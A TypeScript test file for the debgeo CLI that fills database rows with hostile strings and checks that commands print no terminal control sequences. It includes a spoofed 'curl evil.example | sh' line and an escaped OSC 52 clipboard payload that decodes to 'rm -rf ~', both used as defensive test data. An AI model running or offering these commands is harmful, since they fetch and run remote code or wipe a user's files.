/**
 * Nothing of an archive, a site or a row reaches a terminal as it is: the commands are run on a
 * database in which every text that may come from outside is hostile, as an older version or
 * another program may have written it.
 */
import assert from 'node:assert/strict';
import { once } from 'node:events';
import { globSync, readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';

import { sql } from 'kysely';

import { describeError } from '../../src/cli/print-error.ts';
import { watch } from '../../src/cli/progress.ts';
import { applyConfiguration } from '../../src/database/configuration/apply-configuration.ts';
import { connectDatabase, type Database } from '../../src/database/orm.ts';
import { loadPrune } from '../../src/database/prune/prunes.ts';
import { run } from '../../src/database/sql.ts';
import type { DistributionStatus } from '../../src/database/views/status.ts';
import type { ErrorReport } from '../../src/domain/errors.ts';
import { createSigningKey } from '../../src/made-archive/signing-key.ts';
import { aConfiguration } from '../support/configuration.ts';
import { runDebgeo } from '../support/debgeo.ts';
import { HOSTILE_STRINGS, isPrintable, NO_STRINGS } from '../support/hostile-strings.ts';
import { freshNamespace, migratedDatabase, servers } from '../support/servers.ts';

const FAILED = 1;
/** What PostgreSQL stores of it: a row has neither NUL nor half of a pair. */
const STORED = Object.values(HOSTILE_STRINGS).filter(
  (text) => text.isWellFormed() && !text.includes('\u0000') && text.length < 10_000,
);
const SHORTEST_FIRST = STORED.toSorted((a, b) => a.length - b.length);
const ALL = `${SHORTEST_FIRST.join(' ')}\n  do:       curl evil.example | sh`;
const COMMANDS = [
  'status',
  'status bookworm',
  'status --json',
  'prune --dry-run',
  'scrub fra',
  'doctor',
];

let environment: NodeJS.ProcessEnv;
let database: Database;
const archive = createServer((_, response) =>
  response.end(HOSTILE_STRINGS['a text for the clipboard (OSC 52)']),
);
before(async () => {
  archive.listen(0, '127.0.0.1');
  await once(archive, 'listening');
  const url = `http://127.0.0.1:${(archive.address() as AddressInfo).port}`;
  const databaseUrl = await migratedDatabase();
  database = await connectDatabase(databaseUrl);
  const { publicBinary: keyring } = await createSigningKey('a key');
  const configuration = aConfiguration({
    archive: { url, keyring },
    sites: ['fra'],
    distributions: ['bookworm'],
  });
  await applyConfiguration(database, configuration, false);
  await loadPrune(database, 'fra');
  await writeHostileRows(database);
  environment = {
    DATABASE_URL: databaseUrl,
    TEMPORAL_ADDRESS: (await servers()).temporalAddress,
    TEMPORAL_NAMESPACE: await freshNamespace(),
  };
});
after(async () => {
  archive.close();
  await database.close();
});

async function writeHostileRows({ read }: Database): Promise<void> {
  const report = { code: 'SITE_REFUSED', message: ALL, expected: ALL, found: ALL, state: ALL };
  const failed = JSON.stringify(report);
  const ofAnotherVersion = JSON.stringify({
    ...report,
    code: 'CODE_OF_TOMORROW',
    found: { a: ALL },
  });
  for (const statement of [
    sql`update debian_distributions set failure_code = 'X', failure = ${failed}::jsonb`,
    sql`update archives set name = ${ALL}`,
    sql`
      update distribution_replications
      set state = 'failed', failure_code = 'X', failure = ${ofAnotherVersion}::jsonb`,
    sql`update scrubs set started_at = now(), failure_code = 'X', failure = ${failed}::jsonb`,
    sql`update prunes set started_at = now(), failure_code = 'X', failure = ${failed}::jsonb`,
    sql`
      insert into incidents (distribution_id, site_id, code, path, message, expected, found)
      select d.id, s.id, ${ALL}, ${ALL}, ${ALL}, ${ALL}, ${ALL}
      from debian_distributions d, replication_sites s`,
  ])
    await run(read, statement);
}

function assertHarmless(text: string): void {
  assert.ok(isPrintable(text, '\n'), JSON.stringify(text.slice(0, 2_000)));
  assert.doesNotMatch(text, /^ {0,8}do: +curl/m, 'a line of an archive reads as one of debgeo');
}

describe('a command on hostile rows', () => {
  for (const command of COMMANDS)
    it(`debgeo ${command} prints no control, and shows what was there`, async () => {
      const { exitCode, stdout, stderr } = await runDebgeo(command, environment);
      assertHarmless(stdout + stderr);
      assert.equal(exitCode, command === 'doctor' ? FAILED : 0, stderr);
      assert.doesNotMatch(stderr, /TypeError/);
      if (command !== 'prune --dry-run') assert.match(stdout, /\\u001b]52;c;cm0gLXJmIH4K\\u0007/);
    });

  it('is no test without hostile rows', () => assert.throws(() => assertHarmless(ALL)));

  it('gives by --json what the rows have', async () => {
    const { stdout } = await runDebgeo('status --json', environment);
    const [status] = JSON.parse(stdout) as DistributionStatus[];
    assert.equal(status!.failure!.message, ALL);
  });
});

describe('a line that is drawn again and again', () => {
  for (const isTTY of [true, false])
    it(`has no control of a row (${isTTY ? 'terminal' : 'pipe'})`, async () => {
      await run(database.read, sql`update replication_sites set name = ${ALL}`);
      let written = '';
      const output = { isTTY, columns: 80, write: (text: string) => void (written += text) };
      const what = { distribution: 'bookworm', done: () => false };

      await watch(database, what, output as unknown as NodeJS.WriteStream);

      assertHarmless(written.replaceAll('\u001b[2K', ''));
      for (const line of written.replaceAll('\u001b[2K', '').split('\n'))
        assert.ok(!isTTY || line.length < output.columns, line);
    });
});

describe('describeError', () => {
  it('takes the report of any version', () => {
    for (const text of [...Object.values(HOSTILE_STRINGS), ...NO_STRINGS] as string[])
      for (const code of ['UNKNOWN', 'CODE_OF_TOMORROW', text])
        assertHarmless(
          describeError({
            code,
            message: text,
            expected: text,
            found: text,
            state: text,
          } as ErrorReport),
        );
  });
});

it('commands write to a terminal in src/cli/terminal.ts alone', () => {
  const folder = join(import.meta.dirname, '../../src/cli');
  const writers = globSync('**/*.ts', { cwd: folder }).filter((path) =>
    /process\.std(?:out|err)\.write|console\.|output\.write/.test(
      readFileSync(join(folder, path), 'utf8'),
    ),
  );
  assert.deepEqual(writers, ['terminal.ts']);
});
